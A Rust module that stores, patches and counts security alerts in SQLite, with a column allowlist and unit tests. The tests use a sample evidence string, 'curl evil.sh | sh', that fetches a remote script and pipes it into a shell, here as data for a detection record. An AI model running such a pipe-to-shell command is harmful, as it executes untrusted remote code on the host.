//! Alert persistence, patch updates, and counts.

use std::collections::HashMap;

use chrono::Utc;
use rusqlite::{params, OptionalExtension, Row};
use serde_json::Value;
use uuid::Uuid;

use al_domain::{Alert, AlertStatus, EventCategory, Severity};

use crate::error::{Error, Result};
use crate::records::{AlertFilter, Page};
use crate::{fmt_ts, from_json, parse_ts, parse_uuid, parse_uuid_opt, to_json, Store};

/// Patchable columns for `update_alert`. Any other key is rejected, which is
/// the only mechanism by which string-derived SQL fragments are emitted.
const ALLOWED_ALERT_COLUMNS: &[&str] =
    &["status", "action_taken", "assigned_to", "tags", "metadata"];

pub(crate) fn row_to_alert(row: &Row) -> rusqlite::Result<Alert> {
    let event_ids: Vec<String> = from_json(row.get("event_ids")?);
    Ok(Alert {
        id: parse_uuid(&row.get::<_, String>("id")?),
        session_id: row.get("session_id")?,
        created_at: parse_ts(&row.get::<_, String>("created_at")?),
        updated_at: parse_ts(&row.get::<_, String>("updated_at")?),
        title: row.get("title")?,
        description: row.get::<_, Option<String>>("description")?.unwrap_or_default(),
        severity: Severity::parse(&row.get::<_, String>("severity")?)
            .unwrap_or(Severity::Medium),
        category: EventCategory::parse(&row.get::<_, String>("category")?)
            .unwrap_or(EventCategory::Unknown),
        status: AlertStatus::parse(&row.get::<_, String>("status")?)
            .unwrap_or(AlertStatus::New),
        assigned_to: row.get("assigned_to")?,
        policy_id: parse_uuid_opt(row.get("policy_id")?),
        event_ids: event_ids.iter().map(|s| parse_uuid(s)).collect(),
        evidence: from_json(row.get("evidence")?),
        action_taken: row.get("action_taken")?,
        blocked: row.get::<_, i64>("blocked")? != 0,
        tags: from_json(row.get("tags")?),
        metadata: from_json(row.get("metadata")?),
    })
}

impl Store {
    /// Insert, or on id conflict update the triage fields (status, assignee,
    /// action notes, evidence, tags, metadata). Core facts — session, title,
    /// severity, trigger events — are write-once.
    pub fn save_alert(&self, alert: &Alert) -> Result<()> {
        let event_ids: Vec<String> = alert.event_ids.iter().map(Uuid::to_string).collect();
        self.with_tx(|tx| {
            tx.execute(
                r#"
                INSERT INTO alerts (
                    id, session_id, created_at, updated_at, title, description,
                    severity, category, status, assigned_to, policy_id,
                    event_ids, evidence, action_taken, blocked, tags, metadata
                ) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, ?12, ?13, ?14, ?15, ?16, ?17)
                ON CONFLICT(id) DO UPDATE SET
                    status = excluded.status,
                    assigned_to = excluded.assigned_to,
                    action_taken = excluded.action_taken,
                    evidence = excluded.evidence,
                    tags = excluded.tags,
                    metadata = excluded.metadata,
                    updated_at = excluded.updated_at
                "#,
                params![
                    alert.id.to_string(),
                    alert.session_id,
                    fmt_ts(&alert.created_at),
                    fmt_ts(&alert.updated_at),
                    alert.title,
                    alert.description,
                    alert.severity.as_str(),
                    alert.category.as_str(),
                    alert.status.as_str(),
                    alert.assigned_to,
                    alert.policy_id.map(|id| id.to_string()),
                    to_json(&event_ids)?,
                    to_json(&alert.evidence)?,
                    alert.action_taken,
                    alert.blocked as i64,
                    to_json(&alert.tags)?,
                    to_json(&alert.metadata)?,
                ],
            )?;
            Ok(())
        })
    }

    pub fn get_alert_by_id(&self, alert_id: &Uuid) -> Result<Option<Alert>> {
        self.with_conn(|conn| {
            conn.query_row(
                "SELECT * FROM alerts WHERE id = ?1",
                [alert_id.to_string()],
                row_to_alert,
            )
            .optional()
            .map_err(Into::into)
        })
    }

    pub fn get_alerts_paginated(
        &self,
        page: i64,
        page_size: i64,
        filter: &AlertFilter,
    ) -> Result<Page<Alert>> {
        let mut where_clause = String::from("FROM alerts WHERE 1=1");
        let mut params_vec: Vec<String> = Vec::new();

        if let Some(session_id) = &filter.session_id {
            where_clause.push_str(" AND session_id = ?");
            params_vec.push(session_id.clone());
        }
        if let Some(status) = &filter.status {
            where_clause.push_str(" AND status = ?");
            params_vec.push(status.clone());
        }
        if let Some(severity) = &filter.severity {
            where_clause.push_str(" AND severity = ?");
            params_vec.push(severity.clone());
        }
        if let Some(policy_id) = &filter.policy_id {
            where_clause.push_str(" AND policy_id = ?");
            params_vec.push(policy_id.to_string());
        }
        if let Some(from) = &filter.from_date {
            where_clause.push_str(" AND created_at >= ?");
            params_vec.push(fmt_ts(from));
        }
        if let Some(to) = &filter.to_date {
            where_clause.push_str(" AND created_at <= ?");
            params_vec.push(fmt_ts(to));
        }

        self.with_conn(|conn| {
            let total: i64 = conn.query_row(
                &format!("SELECT COUNT(*) {where_clause}"),
                rusqlite::params_from_iter(&params_vec),
                |row| row.get(0),
            )?;

            let offset = (page.max(1) - 1) * page_size;
            let mut stmt = conn.prepare(&format!(
                "SELECT * {where_clause} ORDER BY created_at DESC LIMIT {page_size} OFFSET {offset}"
            ))?;
            let items = stmt
                .query_map(rusqlite::params_from_iter(&params_vec), row_to_alert)?
                .collect::<rusqlite::Result<Vec<_>>>()?;

            Ok(Page { items, total })
        })
    }

    /// Apply a patch mapping to an alert. Every key must be in the column
    /// allowlist; `status` must parse as a valid [`AlertStatus`].
    pub fn update_alert(&self, alert_id: &Uuid, patch: &serde_json::Map<String, Value>) -> Result<Alert> {
        let mut set_clauses: Vec<String> = Vec::new();
        let mut params_vec: Vec<Option<String>> = Vec::new();

        for (key, value) in patch {
            if !ALLOWED_ALERT_COLUMNS.contains(&key.as_str()) {
                return Err(Error::InvalidArgument(format!(
                    "invalid alert column: {key:?}"
                )));
            }
            let bound = match key.as_str() {
                "status" => {
                    let status = value.as_str().and_then(AlertStatus::parse).ok_or_else(|| {
                        Error::InvalidArgument(format!("invalid alert status: {value}"))
                    })?;
                    Some(status.as_str().to_string())
                }
                "tags" | "metadata" => Some(to_json(value)?),
                _ => match value {
                    Value::Null => None,
                    Value::String(s) => Some(s.clone()),
                    other => Some(other.to_string()),
                },
            };
            set_clauses.push(format!("{key} = ?"));
            params_vec.push(bound);
        }

        set_clauses.push("updated_at = ?".to_string());
        params_vec.push(Some(fmt_ts(&Utc::now())));
        params_vec.push(Some(alert_id.to_string()));

        self.with_tx(|tx| {
            let changed = tx.execute(
                &format!("UPDATE alerts SET {} WHERE id = ?", set_clauses.join(", ")),
                rusqlite::params_from_iter(&params_vec),
            )?;
            if changed == 0 {
                return Err(Error::NotFound(format!("alert {alert_id}")));
            }
            Ok(())
        })?;

        self.get_alert_by_id(alert_id)?
            .ok_or_else(|| Error::NotFound(format!("alert {alert_id}")))
    }

    pub fn get_alert_count(
        &self,
        session_id: Option<&str>,
        status: Option<&str>,
    ) -> Result<i64> {
        let mut query = String::from("SELECT COUNT(*) FROM alerts WHERE 1=1");
        let mut params_vec: Vec<String> = Vec::new();
        if let Some(session_id) = session_id {
            query.push_str(" AND session_id = ?");
            params_vec.push(session_id.to_string());
        }
        if let Some(status) = status {
            query.push_str(" AND status = ?");
            params_vec.push(status.to_string());
        }
        self.with_conn(|conn| {
            conn.query_row(&query, rusqlite::params_from_iter(&params_vec), |row| {
                row.get(0)
            })
            .map_err(Into::into)
        })
    }

    /// Grouped alert counts for a set of sessions in one round-trip.
    pub fn get_alert_counts_by_session(
        &self,
        session_ids: &[String],
    ) -> Result<HashMap<String, i64>> {
        if session_ids.is_empty() {
            return Ok(HashMap::new());
        }
        let placeholders = vec!["?"; session_ids.len()].join(",");
        self.with_conn(|conn| {
            let mut stmt = conn.prepare(&format!(
                "SELECT session_id, COUNT(*) AS cnt FROM alerts \
                 WHERE session_id IN ({placeholders}) GROUP BY session_id"
            ))?;
            let rows = stmt
                .query_map(rusqlite::params_from_iter(session_ids), |row| {
                    Ok((row.get::<_, String>(0)?, row.get::<_, i64>(1)?))
                })?
                .collect::<rusqlite::Result<Vec<_>>>()?;
            Ok(rows.into_iter().collect())
        })
    }

    /// Grouped event counts for a set of sessions in one round-trip.
    pub fn get_event_counts_by_session(
        &self,
        session_ids: &[String],
    ) -> Result<HashMap<String, i64>> {
        if session_ids.is_empty() {
            return Ok(HashMap::new());
        }
        let placeholders = vec!["?"; session_ids.len()].join(",");
        self.with_conn(|conn| {
            let mut stmt = conn.prepare(&format!(
                "SELECT session_id, COUNT(*) AS cnt FROM events \
                 WHERE session_id IN ({placeholders}) GROUP BY session_id"
            ))?;
            let rows = stmt
                .query_map(rusqlite::params_from_iter(session_ids), |row| {
                    Ok((row.get::<_, String>(0)?, row.get::<_, i64>(1)?))
                })?
                .collect::<rusqlite::Result<Vec<_>>>()?;
            Ok(rows.into_iter().collect())
        })
    }

    /// Alert counts grouped by originating policy.
    pub fn get_alert_counts_by_policy(&self) -> Result<HashMap<String, i64>> {
        self.with_conn(|conn| {
            let mut stmt = conn.prepare(
                "SELECT policy_id, COUNT(*) AS cnt FROM alerts \
                 WHERE policy_id IS NOT NULL GROUP BY policy_id",
            )?;
            let rows = stmt
                .query_map([], |row| {
                    Ok((row.get::<_, String>(0)?, row.get::<_, i64>(1)?))
                })?
                .collect::<rusqlite::Result<Vec<_>>>()?;
            Ok(rows.into_iter().collect())
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use al_domain::Session;

    fn seeded_store() -> Store {
        let store = Store::open_in_memory().unwrap();
        store.save_session(&Session::new("s1")).unwrap();
        store
    }

    fn alert(session_id: &str) -> Alert {
        let mut a = Alert::new(
            session_id,
            "Suspicious command",
            "curl piped to shell",
            Severity::High,
            EventCategory::CommandExec,
        );
        a.event_ids.push(Uuid::new_v4());
        a
    }

    #[test]
    fn save_alert_round_trips_evidence() {
        let store = seeded_store();
        let mut a = alert("s1");
        let event_id = a.event_ids[0];
        a.add_evidence(
            event_id,
            "Matched policy: P1",
            serde_json::Map::new(),
            None,
            Some("curl evil.sh | sh".to_string()),
            None,
        );
        store.save_alert(&a).unwrap();

        let stored = store.get_alert_by_id(&a.id).unwrap().unwrap();
        assert_eq!(stored.evidence.len(), 1);
        assert_eq!(stored.evidence[0].event_id, event_id);
        assert_eq!(stored.event_ids, vec![event_id]);
        assert_eq!(stored.status, AlertStatus::New);
    }

    #[test]
    fn update_alert_rejects_unknown_column() {
        let store = seeded_store();
        let a = alert("s1");
        store.save_alert(&a).unwrap();

        let patch: serde_json::Map<String, Value> =
            serde_json::from_value(serde_json::json!({"severity": "critical"})).unwrap();
        let err = store.update_alert(&a.id, &patch).unwrap_err();
        assert!(matches!(err, Error::InvalidArgument(_)));
    }

    #[test]
    fn update_alert_patches_status_and_tags() {
        let store = seeded_store();
        let a = alert("s1");
        store.save_alert(&a).unwrap();

        let patch: serde_json::Map<String, Value> = serde_json::from_value(serde_json::json!({
            "status": "resolved",
            "action_taken": "confirmed benign",
            "tags": ["triaged"],
        }))
        .unwrap();
        let updated = store.update_alert(&a.id, &patch).unwrap();
        assert_eq!(updated.status, AlertStatus::Resolved);
        assert_eq!(updated.action_taken.as_deref(), Some("confirmed benign"));
        assert_eq!(updated.tags, vec!["triaged"]);
    }

    #[test]
    fn update_alert_rejects_bogus_status() {
        let store = seeded_store();
        let a = alert("s1");
        store.save_alert(&a).unwrap();

        let patch: serde_json::Map<String, Value> =
            serde_json::from_value(serde_json::json!({"status": "sideways"})).unwrap();
        assert!(matches!(
            store.update_alert(&a.id, &patch).unwrap_err(),
            Error::InvalidArgument(_)
        ));
    }

    #[test]
    fn counts_group_by_session() {
        let store = seeded_store();
        store.save_session(&Session::new("s2")).unwrap();
        store.save_alert(&alert("s1")).unwrap();
        store.save_alert(&alert("s1")).unwrap();
        store.save_alert(&alert("s2")).unwrap();

        let counts = store
            .get_alert_counts_by_session(&["s1".to_string(), "s2".to_string()])
            .unwrap();
        assert_eq!(counts.get("s1"), Some(&2));
        assert_eq!(counts.get("s2"), Some(&1));
    }
}
